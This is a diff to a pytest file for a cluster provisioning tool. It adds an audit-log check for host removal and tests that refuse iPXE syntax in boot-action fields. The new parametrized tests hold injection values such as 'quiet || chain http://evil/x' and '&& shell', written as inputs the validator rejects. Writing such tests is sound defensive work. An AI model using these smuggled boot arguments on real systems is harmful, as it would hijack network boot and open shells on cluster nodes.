@@ -96,6 +96,8 @@ def test_insert_ethers_arguments() -> None:
         insert_ethers.parse(["colour=blue"])
     with pytest.raises(UsageError, match="--remove needs the name of a host"):
         insert_ethers.parse(["--remove"])
+    with pytest.raises(UsageError, match="log= is gone: insert-ethers hears dnsmasq's discovery"):
+        insert_ethers.parse(["log=/var/log/dnsmasq.log"])
 
 
 def test_insert_ethers_without_dnsmasq_says_how_to_start_it(
@@ -110,49 +112,17 @@ def test_insert_ethers_without_dnsmasq_says_how_to_start_it(
     assert "membership 'Toaster' is not valid" in capsys.readouterr().err
 
 
-def test_insert_ethers_remove(site: Any) -> None:
+def test_insert_ethers_remove_is_audited(site: Any, tmp_path: Path) -> None:
     out = io.StringIO()
     assert insert_ethers.main(["--remove", "vm-container-0-1"], out) == 0
     assert (
         out.getvalue() == "removed vm-container-0-1; 1 fixed lease(s) left, dnsmasq not running\n"
     )
     assert "vm-container-0-1" not in site.ok("list", "host")
-
-
-def test_insert_ethers_follows_the_log_and_stops_on_sigterm(site: Any, tmp_path: Path) -> None:
-    """The watch loop on a log this test writes: an unknown MAC becomes a host, a known is not."""
-    import os
-    import signal
-    import threading
-    import time
-
-    log = tmp_path / "dnsmasq.log"
-    log.write_text("old line DHCPDISCOVER(eth0) 52:54:00:00:00:99 no address available\n")
-    out = io.StringIO()
-
-    def dhcp_requests() -> None:
-        deadline = time.monotonic() + 30
-        while "watching" not in out.getvalue() and time.monotonic() < deadline:
-            time.sleep(0.05)
-        with log.open("a") as fh:
-            fh.write("Nov 22 dnsmasq-dhcp[1]: 5 DHCPDISCOVER(eth0) 52:54:00:fd:00:01 \n")
-            fh.write("Nov 22 dnsmasq-dhcp[1]: 6 DHCPDISCOVER(eth0) 52:54:00:00:00:42 no address "
-                     "available\n")  # fmt: skip
-        while "discovered" not in out.getvalue() and time.monotonic() < deadline:
-            time.sleep(0.05)
-        os.kill(os.getpid(), signal.SIGTERM)  # the handler insert-ethers installed
-
-    helper = threading.Thread(target=dhcp_requests, daemon=True)
-    helper.start()
-    assert insert_ethers.watch({"appliance": "VM Container", "log": str(log)}, out) == 0
-    helper.join(10)
-    lines = out.getvalue().splitlines()
-    assert lines[1] == (
-        "discovered 52:54:00:00:00:42: vm-container-0-2 10.1.255.252 (VM Container); "
-        "vm-container-0-2 gets 10.1.255.252; dnsmasq reloaded"
-    )
-    assert lines[-1] == "insert-ethers: 1 new host(s)"
-    assert "52:54:00:00:00:99" not in site.ok("list", "host", "interface")
+    log = tmp_path / "dhcp" / "insert-ethers.log"
+    line = log.read_text().splitlines()[-1]
+    assert line.endswith(" remove host=vm-container-0-1 mac=52:54:00:fd:00:02 ip=10.1.255.253")
+    assert " uid=0 " in line and oct(log.stat().st_mode & 0o777) == "0o600"
 
 
 def test_set_host_installaction_and_runaction(site: Any, tmp_path: Path) -> None:
@@ -177,3 +147,31 @@ def test_set_host_installaction_and_runaction(site: Any, tmp_path: Path) -> None
         "set", "host", "installaction", "vm-container-0-1", "action=install debian",
         says=f"boot action 'install debian': kernel {kernel} does not exist on this frontend",
     )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "says"),
+    [
+        ("args", "console=ttyS0 && shell", "'&&' is iPXE syntax"),
+        ("args", "quiet || chain http://evil/x", "'||' is iPXE syntax"),
+        ("args", "quiet # rest ignored", "'#' is iPXE syntax"),
+        ("args", "x=${net0/ip}", "is iPXE syntax"),
+        ("args", "a;b", "';' is iPXE syntax"),
+        ("args", "quiet\nshell", "is iPXE syntax"),
+        ("kernel", "http://mirror/linux#x", "'#' is iPXE syntax"),
+        ("ramdisk", "http://mirror/initrd&&shell", "'&&' is iPXE syntax"),
+        ("kernel", "http://mirror/linux x", "has white space"),
+    ],
+)
+def test_boot_action_words_that_are_ipxe_syntax_are_refused(
+    site: Any, field: str, value: str, says: str
+) -> None:
+    """Issue 14: boot-action arguments reached the iPXE kernel line verbatim."""
+    kernel = [] if field == "kernel" else ["kernel=http://mirror/linux"]
+    site.refused("add", "bootaction", "action=evil", *kernel, f"{field}={value}", says=says)
+    site.refused("set", "bootaction", "action=install", f"{field}={value}", says=says)
+
+
+def test_boot_action_names_that_are_ipxe_syntax_are_refused(site: Any) -> None:
+    site.refused("add", "bootaction", "action=x && shell", "kernel=http://m/linux",
+                 says="boot action name 'x && shell'")  # fmt: skip
